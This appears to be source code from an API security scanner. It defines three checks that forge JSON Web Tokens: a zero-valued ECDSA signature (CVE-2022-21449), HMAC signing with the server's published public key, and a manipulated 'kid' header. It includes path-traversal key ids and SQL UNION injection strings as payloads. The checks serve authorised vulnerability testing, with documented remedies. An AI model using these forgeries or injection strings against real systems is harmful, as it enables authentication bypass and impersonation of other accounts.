"""Forged tokens that a verifier's own key material lets in: a broken ECDSA, a public key as a secret, a key chosen by name."""

from __future__ import annotations

import base64
import re
from collections.abc import Callable, Mapping, Sequence

from msgspec import Struct

from gatewright.checks.forging import Form, forged, gate_of, holder, token_of
from gatewright.model.account import ANON
from gatewright.model.call import Call
from gatewright.model.endpoint import Endpoint
from gatewright.model.errors import ScopeError
from gatewright.model.http import Exchange
from gatewright.model.json import Json
from gatewright.model.test import Attacker, Need, Phase, Probe, check
from gatewright.model.verdict import Verdict, conclude
from gatewright.proof import der, jwt

_ZEROS = (("r and s zero", bytes(64)), ("r and s zero in DER", base64.b64decode("MAYCAQACAQA=")))
_ONES = bytes(31) + b"\1" + bytes(31) + b"\1"
_PUBLISHED = (
    *("/.well-known/jwks.json", "/.well-known/openid-configuration", "/jwks.json", "/jwks", "/keys"),
    *("/public-key", "/public.pem"),
)
"""Where keys are published without being named anywhere (RFC 8414, OpenID Connect Discovery 1.0, and habit)."""
_UP = ("", "../" * 3, "../" * 6, "../" * 9)
_RANDOMIZE = "proc/sys/kernel/randomize_va_space"
_UNION = ("x' UNION SELECT 'gw'-- ", 'x" UNION SELECT "gw"-- ', "x') UNION SELECT ('gw')-- ", "x' UNION ALL SELECT 'gw' FROM dual-- ")  # fmt: skip


@check(
    "jwt-psychic",
    threat="API2:2023",
    title="A signature of zeros is accepted",
    severity="high",
    cwe=(347,),
    attacker=Attacker.HOST,
    needs=(Need.SESSION, Need.JWT),
    phase=Phase.LIFE_CYCLE,
    requests=20,
    tags=("jwt",),
)
async def jwt_psychic(probe: Probe) -> Verdict:
    """Send a token signed by ECDSA with r and s zero.

    ## What it does
    Replaces the signature of an account's own ES256 token (ES384, ES512) by one whose two numbers are zero: as 64
    zero bytes, and in DER.

    ## Why it matters
    A verifier that does not check that both numbers are at least 1 finds such a signature right for every token and
    every key: anybody writes tokens. Java 15 to 18 had this fault (CVE-2022-21449).

    ## How it is proved
    The good token is accepted and the same token with one bit of its signature turned over is refused. The signature of
    zeros is accepted twice: the answer names the account. Its twin, both numbers one, is refused. Where a second
    account with such a token is known, its claims then show that account's identity; that makes the finding critical.

    ## When it is wrong
    No case is known.

    ## Remedy
    Update the platform or the library that verifies ECDSA; refuse signatures of which a number is not within 1 and the
    order of the curve less one.

    ## References
    - https://www.rfc-editor.org/rfc/rfc7518#section-3.4
    - https://nvd.nist.gov/vuln/detail/CVE-2022-21449
    """
    account = await holder(probe, lambda token: token.algorithm in ("ES256", "ES384", "ES512"))
    if not account:
        return conclude("not_jwt", "no account has a token that is signed by ECDSA")

    def signed(signature: bytes) -> Callable[[jwt.Token], str]:
        return lambda token: f"{jwt.restated(token)}.{jwt.b64(signature)}"

    forms = [Form(f"{name} as signature", signed(value), "both numbers one", signed(_ONES)) for name, value in _ZEROS]
    return await forged(probe, forms, account=account)


@check(
    "jwt-key-confusion",
    threat="API2:2023",
    title="The public key is accepted as the secret of an HMAC",
    severity="high",
    cwe=(347, 327),
    attacker=Attacker.HOST,
    needs=(Need.SESSION, Need.JWT),
    phase=Phase.LIFE_CYCLE,
    requests=60,
    tags=("jwt",),
)
async def jwt_key_confusion(probe: Probe) -> Verdict:
    """Sign a token by HMAC with the API's public key as the secret.

    ## What it does
    For tokens that are signed with a private key: finds the public key where it is published (a path of the
    specification that names keys, `jwks_uri` of the OpenID configuration, the usual paths, the token's own x5c, the
    certificate of TLS), and
    signs the account's own claims by HS256 with it, in every form in which a server may hold it: PEM, DER, base64, the
    JWK itself, its modulus.

    ## Why it matters
    A verifier that lets the token choose between RSA and HMAC takes the public key for the shared secret. Everybody has
    the public key, so everybody signs.

    ## How it is proved
    The good token is accepted and the same token with one bit of its signature turned over is refused. The token signed
    with the public key is accepted twice: the answer names the account. Its twin, signed by HS256 with other bytes, is
    refused. With another account's claims it then shows that account; that makes the finding critical.

    ## When it is wrong
    No case is known.

    ## Remedy
    Fix the algorithm per key on the server and refuse a token that names another; never hand a public key to a function
    that also verifies HMAC.

    ## References
    - https://www.rfc-editor.org/rfc/rfc8725#section-3.1
    - https://cwe.mitre.org/data/definitions/327.html
    """
    account = await holder(probe, lambda token: token.algorithm[:2] in ("RS", "PS", "ES"))
    if not account:
        return conclude("not_jwt", "no account has a token that is signed with a private key")
    gate = await gate_of(probe, account)
    if gate.stop is not None or gate.unchecked:
        return await forged(probe, (), account=account)
    original = await token_of(probe, account)
    kid = original.header.get("kid") if original else None
    keys = await probe.once("published keys", lambda: _published(probe, original))
    probe.cite(*keys.exchanges)
    usable = sorted(keys.keys, key=lambda key: key.get("kid") != kid)[:2]
    forms = [
        form for index, key in enumerate(usable) for form in _confused(key, kid is not None)[: 24 if not index else 4]
    ]
    if not forms:
        return conclude("not_visible", f"the public key of {account}'s token is published nowhere that was tried")
    return await forged(probe, forms, account=account)


@check(
    "jwt-kid",
    threat="API2:2023",
    title="The token chooses the key that it is verified with",
    severity="high",
    cwe=(347, 22, 89),
    attacker=Attacker.HOST,
    needs=(Need.SESSION, Need.JWT),
    phase=Phase.LIFE_CYCLE,
    requests=50,
    tags=("jwt",),
)
async def jwt_kid(probe: Probe) -> Verdict:
    """Let the token's `kid` lead to a key that everybody knows.

    ## What it does
    Rewrites the key id in the header of the account's own token so that a server that looks the key up by it as a file
    or in a database comes to something known: an empty file, a file of one digit, a public file of this host, the result
    of a UNION, no key at all. Signs the token by HS256 with that.

    ## Why it matters
    Whoever chooses the key signs what they like: any user, any role. The look-up itself is a path traversal or an SQL
    injection.

    ## How it is proved
    The good token is accepted and the same token with one bit of its signature turned over is refused. A token with the
    chosen id is accepted twice: the answer names the account. Its twin, with the same id and another key, is refused.
    With another account's claims it then shows that account; that makes the finding critical.

    ## When it is wrong
    No case is known.

    ## Remedy
    Look the id up in a fixed map of keys, exactly, and refuse what is not in it. Never make a path, a query or a command
    of it, and never verify with an empty key.

    ## References
    - https://www.rfc-editor.org/rfc/rfc8725#section-3.10
    - https://www.rfc-editor.org/rfc/rfc7515#section-4.1.4
    """
    token = await token_of(probe, probe.account)
    named = token is not None and "kid" in token.header
    forms = [_chosen(kid, key, name) for kid, key, name in _ids() if named or kid == "/dev/null"]
    if named:
        gate = await gate_of(probe)
        if gate.stop is None and not gate.unchecked:
            forms += await _public_file(probe, gate.endpoint)
    return await forged(probe, forms)


def _ids() -> list[tuple[str, bytes, str]]:
    """Key id, the key that it leads to, and what that is."""
    rows: list[tuple[str, bytes, str]] = []
    for up in _UP:
        path = f"{up}dev/null" if up else "/dev/null"
        rows += [(path, b"", "an empty file"), (path, b"\0", "a file of nothing")]
    for path in (f"/{_RANDOMIZE}", f"{_UP[2]}{_RANDOMIZE}"):
        rows += [(path, b"2\n", "a file of one digit"), (path, b"2", "a file of one digit, trimmed")]
    rows += [(text, b"gw", "the result of a UNION") for text in _UNION]
    return [*rows, ("gw-no-such-key", b"", "no key")]


def _chosen(kid: str, key: bytes, name: str) -> Form:
    def signed(secret: bytes) -> Callable[[jwt.Token], str]:
        return lambda token: jwt.resigned(token, secret, header={"kid": kid})

    return Form(
        f"kid {kid!r} and {name} as key", signed(key), "the same kid and another key", signed(b"gw another key")
    )


async def _public_file(probe: Probe, endpoint: Endpoint) -> list[Form]:
    """A file that this host gives to everybody, as a key: its path below the usual roots of web servers."""
    asked = await _get(probe, endpoint.origin, "/robots.txt")
    content = asked.response.body if asked is not None and asked.response is not None and asked.response.ok else b""
    if not content or len(content) > 4096:
        return []
    return [_chosen(f"{_UP[1]}{root}robots.txt", content, "a public file") for root in ("", "public/", "static/")]


class Published(Struct, frozen=True):
    """Public keys that were found, and the exchanges that gave them."""

    keys: tuple[dict[str, Json], ...]
    exchanges: tuple[Exchange, ...]


async def _published(probe: Probe, token: jwt.Token | None) -> Published:
    """The API's public keys: in the token, at the paths of the specification, at the usual paths. At most ten requests."""
    chain = token.header.get("x5c") if token else None
    own = der.certified(chain[0]) if isinstance(chain, list) and chain and isinstance(chain[0], str) else None
    if own is not None:
        return Published((own,), ())
    told = probe.specification.endpoints
    places = [
        (e.origin, e.base + e.path) for e in told if e.method == "GET" and "{" not in e.path and _names_keys(e.path)
    ]
    places = [place for place in places if place[0]][:2] + [(probe.endpoint.origin, path) for path in _PUBLISHED]
    asked: list[Exchange] = []
    for origin, path in dict.fromkeys(places):
        exchange = await _get(probe, origin, path)
        if exchange is None:
            continue
        asked.append(exchange)
        answer = _json(exchange)
        uri = answer.get("jwks_uri")
        if isinstance(uri, str) and uri.startswith(origin + "/"):
            exchange = await _get(probe, origin, uri[len(origin) :]) or exchange
            asked.append(exchange)
            answer = _json(exchange)
        listed = answer.get("keys")
        keys = [key for key in listed if isinstance(key, dict)] if isinstance(listed, list) else [answer]
        usable = tuple(dict(key) for key in keys if der.spki(key)) or _in_pem(exchange)
        if usable:
            return Published(usable, tuple(asked))
    shown = probe.certificate(probe.endpoint.origin)  # one key for both is a habit of small servers
    held = der.certified(base64.b64encode(shown).decode()) if shown else None
    return Published((held,) if held is not None else (), tuple(asked))


def _in_pem(exchange: Exchange) -> tuple[dict[str, Json], ...]:
    if exchange.response is None or not exchange.response.ok or len(exchange.response.body) > 65_536:
        return ()
    return tuple(der.published(exchange.response.body.decode("utf-8", "replace")))


def _names_keys(path: str) -> bool:
    told = re.sub(r"[-_]", "", path.lower())
    return any(
        word in told for word in ("jwks", "/keys", "/certs", "openidconfiguration", "publickey", "pubkey", ".pem")
    )


async def _get(probe: Probe, origin: str, path: str) -> Exchange | None:
    """A GET without a credential; None when it is out of scope."""
    endpoint = Endpoint(method="GET", path=path, origin=origin)
    call = Call(endpoint=endpoint.id)
    try:
        return await probe.send(call, as_=ANON, purpose="control: published keys", endpoint=endpoint, credentials=())
    except ScopeError:
        return None


def _json(exchange: Exchange) -> Mapping[str, Json]:
    if exchange.response is None or not exchange.response.ok:
        return {}
    return jwt.mapping(exchange.response.body)


def _confused(key: Mapping[str, Json], named: bool) -> list[Form]:
    """HMAC tokens with every form of a public key, likeliest first."""

    def form(secret: bytes, name: str, algorithm: str = "HS256", header: Mapping[str, Json] | None = None) -> Form:
        def signed(with_: bytes) -> Callable[[jwt.Token], str]:
            return lambda token: jwt.resigned(token, with_, algorithm=algorithm, header=header)

        told = f"{algorithm} and the public key ({name}) as secret"
        return Form(told, signed(secret), f"{algorithm} and other bytes as secret", signed(b"gw another secret"))

    held = der.forms(key)
    first: Sequence[der.Form] = held[:2]
    found = [form(one.key, one.name) for one in held]
    found += [form(one.key, one.name, algorithm) for algorithm in ("HS384", "HS512") for one in first]
    if named:
        found += [form(one.key, f"{one.name}, kid dropped", header={"kid": None}) for one in first]
    return found
